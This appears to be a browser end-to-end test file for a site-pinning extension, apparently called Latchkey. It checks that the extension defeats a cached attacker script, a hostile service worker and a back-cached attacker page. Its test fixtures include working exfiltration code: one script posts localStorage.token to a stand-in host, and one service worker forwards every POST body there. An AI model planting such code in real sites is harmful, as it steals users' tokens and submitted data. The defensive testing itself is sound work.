// What an attacker left in the browser before leaving: a stored script, a service worker, a whole page.
import { afterEach, expect, it } from "vitest";
import { attack, SECRET } from "../lab/attacker";
import { NAIVE } from "../lab/strategies";
import { UNRELATED } from "../lab/lab";
import { until } from "../lab/until";
import { closeBrowser, firefox, lab } from "./browser";
import { post, turnOn, untilArrived, untilChecked } from "./guarded";
import { leave, pinAndGuard, startUnpinned, WAYS } from "./unpinned";
import { pin } from "./user";

afterEach(closeBrowser);

const ATTACKER_TITLE = "the attacker's script was here";
it.each(WAYS)("a script of the attacker's that the browser has stored: %s", async (_, isGuarded) => {
  const { instance, page } = await startUnpinned();
  const steal = `document.title = "${ATTACKER_TITLE}"; fetch('https://${UNRELATED}/x', { method: 'POST', mode: 'no-cors', body: localStorage.token });`;
  const loot = await attack(lab, instance, NAIVE, {
    authority: lab.publicAuthority,
    names: [UNRELATED],
    scripts: { "/static/app.js": steal },
    headers: { "Cache-Control": "public, max-age=86400" },
  });
  await page.goto(`${instance.url}cached`); // before the pin, and before there was anything to steal
  await page.evaluate(`localStorage.token = '${SECRET}'`);
  leave(instance);
  if (isGuarded) await pinAndGuard(instance, page);
  await page.goto(`${instance.url}cached`).catch(() => undefined);
  if (!isGuarded) await until(loot.secrets, (secrets) => secrets > 0);
  else {
    await until(
      () => page.url(),
      (url) => !url.startsWith(instance.url) || url.endsWith("cached"),
    );
    expect(await page.title()).not.toBe(ATTACKER_TITLE);
    expect(loot.secrets()).toBe(0);
  }
});

const ATTACKER_WORKER = `
addEventListener('install', (event) => event.waitUntil(skipWaiting()));
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => {
  if (event.request.method === 'POST') event.respondWith((async () => {
    const copy = await event.request.clone().text();
    await fetch('https://${UNRELATED}/x', { method: 'POST', mode: 'no-cors', body: copy });
    return fetch(event.request);
  })());
});`;
const WORKER_WAYS: [way: string, isGuarded: boolean, isCleared: boolean][] = [
  ["while the instance is only watched", false, false],
  ["under Guard", true, false],
  ["under Guard, after the clearing that its switch offers", true, true],
];
it.each(WORKER_WAYS)(
  "a worker of the attacker's from before the pin is gone, and sees nothing: %s",
  async (_, guarded, isCleared) => {
    // A careful attacker leaves nothing in the cache, where it would be evidence. Firefox keeps a page's icon despite its
    // headers, so the attacker's page has none.
    const { instance, page } = await startUnpinned({ prefs: { "browser.chrome.site_icons": false } });
    const means = { authority: lab.publicAuthority, names: [UNRELATED], headers: { "Cache-Control": "no-store" } };
    const loot = await attack(lab, instance, NAIVE, { ...means, scripts: { "/attacker.js": ATTACKER_WORKER } });
    await page.goto(instance.url);
    await page.evaluate(
      "navigator.serviceWorker.register('/attacker.js').then(() => navigator.serviceWorker.ready).then(() => undefined)",
    );
    leave(instance);
    if (guarded) await pinAndGuard(instance, page, isCleared);
    else await pin(firefox, instance);
    // The open page may come from the attacker's worker. Latchkey reloads it, which may interrupt the next visit.
    await page.goto(instance.url).catch(() => undefined);
    await firefox.buttonShows("Latchkey: verified");
    await until(
      () => page.evaluate("navigator.serviceWorker.controller?.scriptURL ?? ''").catch(String),
      (controller) => controller === "",
    );
    expect(await post(page)).toBe(200);
    expect(loot.secrets()).toBe(0);
  },
);

it("shows no page of the attacker's that the browser has kept whole for going back", async () => {
  const { instance, page } = await startUnpinned({ prefs: { "fission.bfcacheInParent": true } });
  const began = Date.now();
  await pin(firefox, instance);
  await untilChecked(firefox, instance, began);
  await attack(lab, instance, NAIVE);
  await page.goto(instance.url);
  await page.evaluate("globalThis.attacker = true");
  await page.goto(`https://${UNRELATED}/`);
  leave(instance);
  const popup = await firefox.extensionPage(`popup.html?address=${instance.host}`);
  await turnOn(firefox, popup);
  await popup.close();
  instance.received.length = 0;
  await page.evaluate("history.back()");
  await untilArrived(page, /blocked\.html/u);
  expect(instance.received.filter(({ path }) => path === "/")).toEqual([]);
});
